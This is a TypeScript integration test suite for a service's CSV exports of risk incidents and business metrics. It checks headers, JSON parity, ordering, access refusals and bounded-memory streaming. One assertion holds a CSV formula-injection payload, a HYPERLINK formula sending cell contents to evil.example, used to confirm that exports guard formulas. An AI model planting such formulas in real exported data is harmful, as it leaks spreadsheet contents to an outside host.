import { parse as parseSync } from 'csv-parse/sync';
import { expect } from 'chai';
import pg from 'pg';
import { expectConforms } from '../helpers/contract.js';
import { insertIncidents, startServiceWithHeap, streamCsv } from '../helpers/csv-download.js';
import type { RunningService } from '../helpers/service.js';
import { createStaff, login, registerUser, type TestUser, type Tokens } from '../helpers/users.js';

/** A JSON row as its CSV line should read: nested objects flattened, evidence as JSON, null empty, formulas guarded. */
function expectedCsvRow(view: Record<string, unknown>, asJson: string[] = [], prefix = ''): Record<string, string> {
  const row: Record<string, string> = {};
  for (const [key, value] of Object.entries(view)) {
    const name = `${prefix}${key}`;
    if (value !== null && typeof value === 'object' && !asJson.includes(name)) Object.assign(row, expectedCsvRow(value as Record<string, unknown>, asJson, `${name}_`));
    else {
      const text = value === null ? '' : typeof value === 'object' ? JSON.stringify(value) : String(value);
      row[name] = typeof value === 'string' && /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
    }
  }
  return row;
}

const HEAP_MB = 96;

describe('CSV exports of business metrics and risk incidents (HTTP)', function () {
  this.timeout(300_000);
  let svc: RunningService;
  let db: pg.Pool;
  let staff: TestUser & Tokens;
  let customer: Tokens;

  before(async () => {
    // A small heap: an export that held its rows (200,000 incidents take hundreds of MB) would run out of memory.
    svc = await startServiceWithHeap(HEAP_MB);
    db = new pg.Pool({ connectionString: svc.databaseUrl, max: 2 });
    staff = await createStaff(svc, 'csv-staff@example.com');
    const user = await registerUser(svc, 'csv-customer@example.com');
    customer = await login(svc, user.email);
  });
  after(async () => {
    await db?.end();
    await svc?.stop();
  });

  it('exports the incidents as CSV that parses back to the JSON list, formulas guarded', async () => {
    await insertIncidents(db, 450, 10_000_000_000);
    const json: Record<string, unknown>[] = [];
    for (let cursor = ''; ;) {
      const page = await svc.api.get(`/risk/incidents?severity=high&limit=200${cursor ? `&cursor=${cursor}` : ''}`, { token: staff.access });
      expect(page.status).to.equal(200);
      json.push(...page.body.results);
      if (!page.body.next_cursor) break;
      cursor = page.body.next_cursor;
    }
    expect(json.length).to.be.at.least(112);
    const ways: { query: string; headers: Record<string, string> }[] = [{ query: '&format=csv', headers: {} }, { query: '', headers: { accept: 'text/csv' } }];
    for (const how of ways) {
      const res = await svc.api.get(`/risk/incidents?severity=high${how.query}`, { token: staff.access, headers: how.headers });
      expect(res.status).to.equal(200);
      expect(res.headers.get('content-type')).to.equal('text/csv; charset=utf-8');
      expect(res.headers.get('content-disposition')).to.match(/^attachment; filename="risk-incidents_\d{4}-\d{2}-\d{2}\.csv"$/);
      expectConforms('get', '/risk/incidents', res);
      const rows = parseSync(res.body as string, { columns: true }) as Record<string, string>[];
      const noStep = { by: null, note: null, at: null };
      expect(rows).to.deep.equal(json.map((r) => expectedCsvRow({ ...r, acknowledged: r.acknowledged ?? noStep, resolved: r.resolved ?? noStep }, ['evidence'])));
      const hostile = rows.find((r) => r.acknowledged_note !== '');
      expect(hostile?.acknowledged_note).to.equal(`'=HYPERLINK("http://evil.example/?" & A1)`);
      expect(JSON.parse(hostile!.evidence!)).to.have.property('note', 'has "quotes", commas\nand a newline');
    }
  });

  it('exports the incidents in the list\'s ordering', async () => {
    const json: Record<string, unknown>[] = [];
    for (let cursor = ''; ;) {
      const page = await svc.api.get(`/risk/incidents?status=acknowledged&ordering=severity&limit=200${cursor ? `&cursor=${cursor}` : ''}`, { token: staff.access });
      expect(page.status).to.equal(200);
      json.push(...page.body.results);
      if (!page.body.next_cursor) break;
      cursor = page.body.next_cursor;
    }
    const res = await svc.api.get('/risk/incidents?status=acknowledged&ordering=severity&format=csv', { token: staff.access });
    const rows = parseSync(res.body as string, { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.id)).to.deep.equal(json.map((r) => r.id));
    expect(rows[0]!.severity).to.equal('low');
    expect(rows[rows.length - 1]!.severity).to.equal('critical');
  });

  it('exports each business list as CSV equal to its JSON results', async () => {
    for (const path of ['/business/daily', '/business/weekly', '/business/monthly', '/business/countries', '/business/currencies', '/business/active']) {
      const asJson = await svc.api.get(path, { token: staff.access });
      expect(asJson.status, path).to.equal(200);
      const res = await svc.api.get(`${path}?format=csv`, { token: staff.access });
      expect(res.status, path).to.equal(200);
      expect(res.headers.get('content-type')).to.equal('text/csv; charset=utf-8');
      const stem = path.slice(1).replace('/', '-');
      expect(res.headers.get('content-disposition')).to.equal(`attachment; filename="${stem}_${asJson.body.from}_${asJson.body.to}.csv"`);
      expectConforms('get', path, res);
      const rows = parseSync(res.body as string, { columns: true }) as Record<string, string>[];
      expect(rows, path).to.deep.equal((asJson.body.results as Record<string, unknown>[]).map((r) => expectedCsvRow(r)));
      if (path === '/business/daily') expect(Object.keys(rows[0]!)).to.include.members(['date', 'deposits_amount_JOD', 'active_users_7d']);
    }
    const accepted = await svc.api.get('/business/daily?from=2026-01-01&to=2026-01-03', { token: staff.access, headers: { accept: 'text/csv' } });
    expect(accepted.headers.get('content-type')).to.equal('text/csv; charset=utf-8');
    expect((parseSync(accepted.body as string, { columns: true }) as { date: string }[]).map((r) => r.date)).to.deep.equal(['2026-01-03', '2026-01-02', '2026-01-01']);
  });

  it('refuses customers (403) and bad requests (400 problems), never sending CSV', async () => {
    for (const path of ['/risk/incidents?format=csv', '/business/daily?format=csv']) {
      const res = await svc.api.get(path, { token: customer.access, headers: { accept: 'text/csv' } });
      expect(res.status, path).to.equal(403);
      expect(res.headers.get('content-type')).to.match(/^application\/problem\+json/);
    }
    const anonymous = await svc.api.get('/risk/incidents?format=csv');
    expect(anonymous.status).to.equal(401);
    const badFormat = await svc.api.get('/risk/incidents?format=xlsx', { token: staff.access });
    expect(badFormat.status).to.equal(400);
    const badRange = await svc.api.get('/business/daily?format=csv&from=2026-02-01&to=2026-01-01', { token: staff.access });
    expect(badRange.status).to.equal(400);
    expect(badRange.headers.get('content-type')).to.match(/^application\/problem\+json/);
  });

  it('streams 200,000 incidents with the service memory bounded', async () => {
    const pid = svc.pids()[0]!;
    await insertIncidents(db, 200_000, 20_000_000_000);
    const total = Number((await db.query<{ n: string }>('select count(*)::text as n from rm.incidents')).rows[0]!.n);
    const res = await streamCsv(`${svc.baseUrl}/risk/incidents?format=csv`, staff.access, pid);
    expect(res.status).to.equal(200);
    expect(res.rows).to.equal(total);
    const oldest = (await db.query<{ id: string }>('select incident_id::text as id from rm.incidents order by position limit 1')).rows[0]!.id;
    expect(res.lastRow?.id, 'newest first to the very first incident').to.equal(oldest);
    const grownMb = (res.rssPeak - res.rssBefore) / 2 ** 20;
    console.log(`      ${total} incident rows streamed in ${res.ms} ms; service RSS ${(res.rssBefore / 2 ** 20).toFixed(0)} MB before, peak +${grownMb.toFixed(1)} MB`);
    // Holding the rows (or the text, about 60 MB) breaks the heap limit; beside the old space, RSS holds
    // the young generation, code and socket buffers (1M rows grew it by 134 MB, 200k by 105-114 MB).
    expect(grownMb).to.be.below(HEAP_MB + 64);
  });
});
